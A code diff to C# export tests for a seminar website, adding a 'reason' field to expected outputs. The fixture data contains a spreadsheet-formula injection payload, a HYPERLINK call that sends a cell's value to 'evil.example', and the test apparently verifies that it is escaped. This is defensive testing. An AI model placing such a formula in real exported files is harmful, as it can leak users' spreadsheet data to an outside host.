@@ -75,7 +75,7 @@ public class ExportTests(ExportSite shared) : IClassFixture<ExportSite>
         Assert.Equal(["awkward", "日本"], rows.Select(r => r["key"]));
         Assert.Equal(
             [
-                "key: awkward", "title: '=HYPERLINK(\"https://evil.example/?\"&A1), \"loops\", </script> 😀", "date: 2020-02-13", "end_date: ", "time: 16:00", "end_time: 17:30", "time_zone: Europe/London", "event_status: scheduled",
+                "key: awkward", "title: '=HYPERLINK(\"https://evil.example/?\"&A1), \"loops\", </script> 😀", "date: 2020-02-13", "end_date: ", "time: 16:00", "end_time: 17:30", "time_zone: Europe/London", "event_status: scheduled", "reason: ",
                 "speakers: Ludwig van der Berg; 大谷直樹", "affiliations: King's & Co", "categories: Handicraft", "tags: '-rope; wire", "location: '@home", "language: nl", "url: https://seminars.example.org/seminars/awkward/",
                 "slides: https://seminars.example.org/slides/My%20deck.pdf", "recordings: https://video.example/1", "posted_by: Lucy Chapman", "posted: 2020-02-20", "updated: 2021-03-04", "original_title: Loops",
                 "abstract: First line,\nwith marks and a link.\n\nSecond; <a href=\"/x\">",
@@ -105,6 +105,7 @@ public class ExportTests(ExportSite shared) : IClassFixture<ExportSite>
               "end_time": "17:30",
               "time_zone": "Europe/London",
               "event_status": "scheduled",
+              "reason": null,
               "speakers": [
                 {
                   "name": "Ludwig van der Berg",
